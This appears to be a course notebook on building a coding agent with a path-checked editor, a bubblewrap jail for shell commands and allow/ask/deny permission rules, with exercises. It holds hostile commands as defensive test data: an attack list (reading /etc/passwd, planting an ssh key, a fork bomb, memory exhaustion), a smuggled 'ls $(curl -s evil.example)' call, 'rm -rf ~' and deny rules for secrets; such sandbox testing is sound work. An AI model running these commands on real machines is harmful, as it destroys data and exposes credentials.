# %% [markdown]
# # 14 · A coding agent — an editor, a shell in a jail, and rules before every call
#
# Coding agents (Claude Code, Codex, Cursor's agent) are the loop of notebook 03 with two
# kinds of tool: one that reads and edits files, and one that runs shell commands. The
# second is the dangerous one: the model writes the command, and your machine runs it.
# This notebook builds both tools, puts the shell in a jail and attacks it, writes
# permission rules, and then lets an agent fix a failing test.
#
# **You will be able to**
# - give a model an editor and a shell in the API's shape, and watch it fix a failing test;
# - run what the model asks for in a jail, and show what the jail stops and what it does not;
# - write allow, ask and deny rules, and read what they stopped.
#
# **You need** notebooks 02, 03 and 10 (the approval path). Offline is fine. The jail
# needs bubblewrap, which runs on Linux (`sudo apt-get install bubblewrap`); on macOS or
# in a container without it, the notebook runs with no jail and says so at each step.
# On Windows, use WSL.

# %%
import json
import os
import subprocess
import tempfile
import textwrap
from pathlib import Path

import matplotlib.pyplot as plt
%matplotlib inline

import miniagent
from miniagent import Agent
from miniagent.coding import Workspace
from miniagent.mock import coding
from miniagent.permissions import Permissions
from miniagent.sandbox import Limits, Sandbox, bwrap

llm = miniagent.connect()
if llm.mode == "live":
    llm.max_tokens = 300  # a small local model rambles to max_tokens: keep each live answer short
JAIL = bwrap() is not None
print("commands run in:", "a bubblewrap jail" if JAIL else "NO JAIL (no bubblewrap, or it cannot run here): nothing stops a command")

# %% [markdown]
# ## 1. The task: a repository with a failing test
#
# A coding agent's first job is always the same: something is broken, and a test says so.
# Here is the smallest repository with that problem: a module and its test, in a
# temporary folder.

# %%
def failing_repository():
    """A fresh folder with calc.py (add is wrong) and test_calc.py."""
    folder = Path(tempfile.mkdtemp(prefix="nb14-"))
    (folder / "calc.py").write_text('"""Arithmetic for the invoices."""\n\n\ndef add(a, b):\n    return a - b\n\n\n'
                                    "def mul(a, b):\n    return a * b\n", encoding="utf-8")
    (folder / "test_calc.py").write_text("import unittest\n\nfrom calc import add, mul\n\n\n"
                                         "class TestCalc(unittest.TestCase):\n    def test_add(self):\n"
                                         "        self.assertEqual(add(2, 3), 5)\n\n    def test_mul(self):\n"
                                         "        self.assertEqual(mul(4, 5), 20)\n", encoding="utf-8")
    return folder


repo = failing_repository()
print(sorted(p.name for p in repo.iterdir()))

# %% [markdown]
# ## 2. An editor the model can use
#
# The model cannot see the screen, so reading a file gives it the text with line numbers
# (it will quote them back to you). Editing is a replacement: the model copies the text it
# wants changed (`old_str`) and gives the new text. The replacement must match **exactly
# once**; otherwise the edit would be ambiguous. Here are both, inline:

# %%
def view(path):
    lines = (repo / path).read_text(encoding="utf-8").splitlines()
    return "\n".join(f"{n}: {line}" for n, line in enumerate(lines, 1))


def str_replace(path, old_str, new_str):
    text = (repo / path).read_text(encoding="utf-8")
    count = text.count(old_str)
    if count != 1:
        raise ValueError(f"old_str occurs {count} times in {path}; it must occur exactly once")
    (repo / path).write_text(text.replace(old_str, new_str), encoding="utf-8")
    return f"Replaced 1 occurrence in {path}."


print(view("calc.py"))

# %% [markdown]
# Break it on purpose. `return a` is in both functions, so a careless replacement would
# change `mul` too. The edit is refused, and the model is told why:

# %% tags=["raises-exception"]
str_replace("calc.py", "return a", "return a +")

# %% [markdown]
# The inline `view` has a worse problem: it trusts the path. A model that writes
# `../../etc/passwd` (by mistake, or because a file it read told it to) reads outside the
# repository:

# %%
outside = view("../" * 8 + "etc/passwd")
print(outside.splitlines()[0][:24], "…")

# %% [markdown]
# The package's editor, `miniagent.coding.Workspace`, has the same two commands plus
# `create` and `insert`, in the shape of the API's text-editor tool
# (`str_replace_based_edit_tool`). Every path is resolved first, symlinks included, and
# refused unless it stays in the folder. Its schema, as the model sees it:

# %%
workspace = Workspace(repo)
schema = workspace.editor_tool().schema()
print(schema["name"], "·", schema["description"][:80], "…")
for name, spec in schema["input_schema"]["properties"].items():
    print(f"  {name:12} {'|'.join(spec['enum']) if 'enum' in spec else spec['type']:31} {spec['description']}")
print("  required:", schema["input_schema"]["required"])

# %%
os.symlink("/etc/passwd", repo / "notes.txt")  # a symlink that points out of the folder
for path in ["../../etc/passwd", "/etc/passwd", "notes.txt", "/work/calc.py"]:
    try:
        print(f"{path:18} ->", workspace.edit("view", path).splitlines()[0])
    except ValueError as refused:
        print(f"{path:18} -> refused:", refused)
(repo / "notes.txt").unlink()

# %% [markdown]
# `/work/calc.py` is allowed: `/work` is the folder's name inside the jail (section 4), so the
# model may use either. And when `old_str` occurs twice, the error says where, so that the
# model can add a line of context and try again:

# %%
try:
    workspace.edit("str_replace", "calc.py", old_str="    return a", new_str="    return a +")
except ValueError as refused:
    print(refused)

# %% [markdown]
# ## 3. A shell, and why it cannot run on your machine as it is
#
# The shell tool is one line: run the command and return its output. To make the danger
# concrete, put a (fake) key in this notebook's environment, as yours holds a real one:

# %%
os.environ["DEMO_API_KEY"] = "sk-demo-not-a-real-key"


def naive_shell(command):
    ran = subprocess.run(command, shell=True, cwd=repo, capture_output=True, text=True, timeout=10)
    return ran.stdout + ran.stderr


print(naive_shell("python3 -m unittest 2>&1 | tail -3"))
print(naive_shell('echo "the key: $DEMO_API_KEY"; test -r /etc/passwd && echo "and /etc/passwd is readable"'))

# %% [markdown]
# The command saw everything this notebook's process can see: your files, your keys, the
# network. A model does not need to be malicious for that to go wrong: a README it read
# can tell it to `curl` your key somewhere (notebook 13, section 10).
#
# ## 4. A jail for commands
#
# `miniagent.sandbox.Sandbox` runs each command with bubblewrap, the isolation tool
# Flatpak is built on. The command gets new Linux namespaces (its own view of files,
# processes and network) with
# - the system's `/usr` read-only (programs, not your data), and the task's folder at `/work`;
# - no network, an empty `/tmp`, and only its own processes in `/proc`;
# - an environment of four variables (no keys; the shell adds `PWD`);
# - limits: seconds, memory, processes and file size, so output too.
#
# Here is the command line it builds (the folder's path shortened):

# %%
box = Sandbox(repo, Limits(seconds=3)) if JAIL else Sandbox(repo, Limits(seconds=3), isolation="none")
argv = " ".join(box.argv("python3 -m unittest")).replace(str(repo), "<repo>").replace(f"={box.uid}", "=<uid>")
print(textwrap.fill(argv, 100, subsequent_indent="    ", break_on_hyphens=False))

# %% [markdown]
# Now attack it, as a model that has been talked into it would. Each line is one attempt,
# and what came back:

# %%
ATTACKS = [
    ("read the machine's password file", "cat /etc/passwd"),
    ("list the home folders", "ls /root /home"),
    ("climb out with ..", "cd ../../..; pwd; cat etc/passwd"),
    ("a symlink planted in the folder", "ln -s /etc/passwd passwd; cat passwd"),
    ("add a key to ~/.ssh", "mkdir -p ~/.ssh && echo attacker >> ~/.ssh/authorized_keys && echo wrote $HOME/.ssh"),
    ("write outside the folder", "echo x > /usr/local/owned"),
    ("read the API key", 'echo "key=[$DEMO_API_KEY], $(env | wc -l) variables"'),
    ("count the machine's processes", "set -- /proc/[0-9]*; echo $# processes"),
    ("reach the network", "python3 -c \"import socket; socket.create_connection(('1.1.1.1', 80), 2)\" 2>&1 | tail -1"),
    ("a fork bomb", "echo at most $(ulimit -u 2>/dev/null || ulimit -p) processes; bomb() { bomb | bomb & }; bomb 2>/dev/null; while :; do :; done"),
    ("a command that never ends", "while true; do :; done"),
    ("a flood of output", "yes | head -c 50000000"),
    ("take all the memory", 'python3 -c "x = bytearray(2**31)" 2>&1 | tail -1'),
]


def outcome(ran):
    said = (ran.stdout.strip() or ran.stderr.strip() or "(no output)").splitlines()[0][:60]
    if ran.timed_out:
        return "stopped at the time limit, every process killed" + (f" · {said}" if ran.stdout.strip() else "")
    return f"exit {ran.exit_code}" + (", output clipped" if ran.truncated else "") + f" · {said}"


if JAIL:
    for what, command in ATTACKS:
        print(f"{what:32} {outcome(box.run(command))}")
else:
    print("Not run: without bubblewrap these commands would run on your machine as you.")

# %% [markdown]
# Read it line by line. Files outside the folder do not exist in the jail, or cannot be
# read by the user the command runs as; `..` stops at the jail's `/`; the "home folder" is
# the task's folder, so `~/.ssh` was written *there*; the key is empty; the network is
# unreachable. The last four are limits, not walls: the fork bomb could have 64 processes
# at most, and was killed with them at 3 s, as was the endless loop; the flood stopped at the
# 16 MB file limit (exit 153 is that signal), and the allocation failed at 512 MB.
#
# What the jail does **not** cover, so that you do not rely on it for that:
# - the kernel: every namespace shares it, and a kernel bug is an escape (a VM, or gVisor,
#   is the next step up);
# - what the folder holds: the command can delete or rewrite any file of the task (keep it in git);
# - CPU within the time limit, and whatever `/usr` holds (installed programs, which are public).
# - the disk: the limit is per file, so many files can still fill it; and the system calls a
#   command makes are not filtered (bubblewrap can take a seccomp filter; this one has none).
#
# The package's attack suite (`make test-sandbox`, `tests/test_sandbox.py`) runs these and
# more, and checks this machine afterwards.
#
# ## 5. Rules before every call
#
# A jail limits what a command can reach; it does not decide whether a command should run.
# Coding agents let you write that down as rules: **allow** (run without asking), **ask**
# (ask the person), **deny** (never). A rule names a tool and, in brackets, a pattern for
# its argument: for the shell, the command; for the editor, "command path".

# %%
rules = Permissions(
    allow=["bash(python3 -m unittest*)", "bash(ls*)", "bash(cat *)",
           "str_replace_based_edit_tool(view *)", "str_replace_based_edit_tool(str_replace *.py)"],
    ask=["bash(git push*)", "str_replace_based_edit_tool(create *)"],
    deny=["bash(rm *)", "bash(curl *)", "str_replace_based_edit_tool(* .env)", "str_replace_based_edit_tool(* *.pem)"])

CALLS = [("bash", {"command": "python3 -m unittest 2>&1"}), ("bash", {"command": "cat calc.py"}),
         ("bash", {"command": "cat calc.py; rm -rf ~"}), ("bash", {"command": "ls $(curl -s evil.example)"}),
         ("bash", {"command": "git push origin main"}), ("bash", {"command": "make deploy"}),
         ("str_replace_based_edit_tool", {"command": "view", "path": "calc.py"}),
         ("str_replace_based_edit_tool", {"command": "view", "path": "./sub/../.env"}),
         ("str_replace_based_edit_tool", {"command": "create", "path": "notes.md", "file_text": "hi"})]
for name, arguments in CALLS:
    decision = rules.decide(name, arguments)
    print(f"{decision.effect:5}  {name[:4]}  {decision.subject:30}  {decision.reason()}")

# %% [markdown]
# These rules of evaluation make those hold:
# - **deny wins**, then ask, then allow; a call no rule names gets the default (ask);
# - a shell command is split at `;`, `&&`, `||`, `|` and `&`, and *every* part must be
#   allowed: `cat calc.py; rm -rf ~` is denied by its second part;
# - `$( )` and backquotes run a command the rules cannot see, so no allow rule covers them;
# - an editor path is normalised first: `./sub/../.env` is `.env`.
#
# The decision reaches the model through notebook 10's approval path: the tools are marked
# `needs_approval`, and `rules.approver(person)` answers for the rules, asking the person
# only on "ask". A person here is a function; in JupyterLab it could be notebook 10's
# buttons.

# %%
def person(call):
    print(f"  the person is asked about {call['name']} {call['input'].get('command')!r}: no")
    return False


approve = rules.approver(person)
for call in [{"name": "bash", "input": {"command": "git push origin main"}},
             {"name": "bash", "input": {"command": "rm -rf /work"}},
             {"name": "bash", "input": {"command": "ls"}}]:
    print(call["input"]["command"], "->", approve(call))

# %% [markdown]
# ## 6. The agent fixes the test
#
# Now everything together: the editor, the jailed shell (with a 20 s limit for a test run),
# and the rules, on a fresh copy of the repository. Offline, the model is **a script**
# (`miniagent/mock/coding.py`): it runs the tests, reads the failing test and the module,
# tries each arithmetic operator in the failing function's `return` line until one gives
# the value the test expects, edits, and runs the tests again. That is a recipe for this
# one kind of bug, not a model: it shows the mechanics and the costs honestly, and a real
# model, live, does the thinking.

# %%
SYSTEM = ("You are a coding agent. The repository is in /work. Run its tests with `python3 -m unittest 2>&1`, "
          "read the failing test and the code it tests, fix the code (never the test) with the editor, and run "
          "the tests again. Stop when they pass, and say what you changed.")
if llm.mode == "offline":
    llm.mock.script(coding.model(), repeat=True)  # the script above, for every request of this client


def coding_agent(rules, repo):
    box = Sandbox(repo, Limits(seconds=20)) if JAIL else Sandbox(repo, Limits(seconds=20), isolation="none")
    tools = Workspace(repo, box).tools(needs_approval=True)
    return Agent(llm, tools, system=SYSTEM, approve=rules.approver(person), max_iterations=12, on_step=show)


def show(event):
    """Print each call, and the last two lines of what it returned (the model reads all of it)."""
    if event["type"] == "tool_call":
        print(f"→ {event['name']:28} {event['input'].get('command', '')} {event['input'].get('path', '')}")
    elif event["type"] == "tool_result":
        lines = [line for line in str(event["content"]).splitlines() if line.strip()]
        print("    ", " … ".join(lines[-2:])[:90])


repo = failing_repository()
rules.decisions.clear()
agent = coding_agent(rules, repo)
result = agent.run("The tests fail. Make them pass.")
print("\n" + result.text)

# %% [markdown]
# Five tool calls: run, read the test, read the module, edit, run. Each result is two lines
# here; the model got all of it. What did it cost, and what did the rules decide?

# %%
print(f"{agent.usage.calls} model calls, {agent.usage.input_tokens:,} input tokens, "
      f"{agent.usage.output_tokens:,} output tokens")
print("decisions:", [d.effect for d in rules.decisions], "· stopped by a rule:", len(rules.stopped()))
print((repo / "calc.py").read_text(encoding="utf-8").splitlines()[4])

# %% [markdown]
# Most of the tokens are input: each call sends the whole conversation again, and the
# conversation grows by every file the agent read and every test run it saw. The figure
# shows it call by call (notebook 04's lesson, now with files):

# %%
sizes = [e["usage"]["input_tokens"] for e in agent.trace.of_type("response")]
print("input tokens per call:", sizes)
fig, ax = plt.subplots(figsize=(6, 2.6))
ax.bar(range(1, len(sizes) + 1), sizes, color="#4c72b0")
ax.set_xlabel("model call")
ax.set_ylabel("input tokens")
ax.set_title("Every call re-sends the conversation")
plt.show()

# %% [markdown]
# ## 7. When a rule says no
#
# Run the same task with the edit denied. The call never runs; the model is told why, and
# (here, by its script) stops and says so. The file is untouched:

# %%
strict = Permissions(allow=["bash(python3 -m unittest*)", "str_replace_based_edit_tool(view *)"],
                     deny=["str_replace_based_edit_tool(str_replace *)"])
repo = failing_repository()
result = coding_agent(strict, repo).run("The tests fail. Make them pass.")
print("\n" + result.text)
print("stopped:", [d.reason() for d in strict.stopped()])
print((repo / "calc.py").read_text(encoding="utf-8").splitlines()[4])

# %% [markdown]
# ## Now from the package
#
# Everything here is in three short modules:

# %%
import inspect

import miniagent.coding
import miniagent.permissions
import miniagent.sandbox

for module in (miniagent.coding, miniagent.sandbox, miniagent.permissions):
    print(f"{module.__name__:22} {len(inspect.getsource(module).splitlines()):4} lines  "
          f"{inspect.getdoc(module).splitlines()[0][:80]}")

# %% [markdown]
# ## Summary
#
# - A coding agent is the ReAct loop with two tools: an editor whose replacements must match
#   exactly once and whose paths stay in the folder, and a shell.
# - The shell runs in a jail (namespaces, a read-only system, no network, no keys) with limits
#   on time, memory, processes and output; the kernel is still shared.
# - Rules decide before every call: deny wins, every part of a compound command must be
#   allowed, and the person is asked only when a rule says so.
#
# ## Exercises
#
# **Exercise 1.** Write the editor's core, `replace_once(text, old, new)`: the text with
# `old` replaced by `new` when `old` occurs exactly once; otherwise raise `ValueError` with a
# message that says how many times it occurs (0, or the number). An empty `old` is an error too.

# %% tags=["exercise"]
def replace_once(text, old, new):
    """Exercise 1: `text` with its one occurrence of `old` replaced by `new`."""
    return text.replace(old, new)


# %% tags=["check"]
miniagent.exercises.check_14_1(replace_once)

# %% tags=["solution"]
# The reference solution: try the exercise before you open it.
def reference_replace_once(text, old, new):
    if not old:
        raise ValueError("old is empty: give the exact text to replace")
    count = text.count(old)
    if count != 1:
        raise ValueError(f"old occurs {count} times; it must occur exactly once")
    return text.replace(old, new, 1)


miniagent.exercises.check_14_1(reference_replace_once)

# %% [markdown]
# **Exercise 2.** Write `inside(folder, path)`: `True` when `path` (relative to `folder`, or
# absolute) names something in `folder` or the folder itself, once `..` and symlinks are
# resolved; `False` otherwise. The check builds folders with symlinks in them, and a
# neighbour whose name starts like the folder's.

# %% tags=["exercise"]
def inside(folder, path):
    """Exercise 2: does `path` stay inside `folder`?"""
    return ".." not in str(path)


# %% tags=["check"]
miniagent.exercises.check_14_2(inside)

# %% tags=["solution"]
# The reference solution: try the exercise before you open it.
def reference_inside(folder, path):
    folder = Path(folder).resolve()
    target = (folder / path).resolve()
    return target == folder or folder in target.parents


miniagent.exercises.check_14_2(reference_inside)

# %% [markdown]
# **Exercise 3.** Write `decide(rules, command)` for the shell alone. `rules` is a list of
# `(effect, pattern)` pairs, effect `"allow"`, `"ask"` or `"deny"`, pattern a shell-style
# wildcard (`fnmatch.fnmatchcase`). Split the command at `;`, `&&`, `||`, `|` and newlines
# into parts. Return `"deny"` if a deny pattern matches any part, else `"ask"` if an ask
# pattern matches any part, else `"allow"` if every part matches an allow pattern, else
# `"ask"`. A command holding `$(` or a backquote is never `"allow"`.

# %% tags=["exercise"]
import fnmatch


def decide(rules, command):
    """Exercise 3: "allow", "ask" or "deny" for one shell command."""
    for effect, pattern in rules:
        if fnmatch.fnmatchcase(command, pattern):
            return effect
    return "ask"


# %% tags=["check"]
miniagent.exercises.check_14_3(decide)

# %% tags=["solution"]
# The reference solution: try the exercise before you open it.
import re


def reference_decide(rules, command):
    parts = [p.strip() for p in re.split(r"\|\||&&|[;|\n]", command) if p.strip()] or [command]

    def matched(effect, part):
        return any(e == effect and fnmatch.fnmatchcase(part, pattern) for e, pattern in rules)

    for effect in ("deny", "ask"):
        if any(matched(effect, part) for part in parts):
            return effect
    if "$(" in command or "`" in command:
        return "ask"
    return "allow" if all(matched("allow", part) for part in parts) else "ask"


miniagent.exercises.check_14_3(reference_decide)

# %% [markdown]
# ## Next
#
# Notebook 15 keeps this agent working for longer than one context window: skills it loads
# when it needs them, a plan in a file, a session that survives a restart, hooks around every
# call, and commands that run in the background while the conversation goes on.
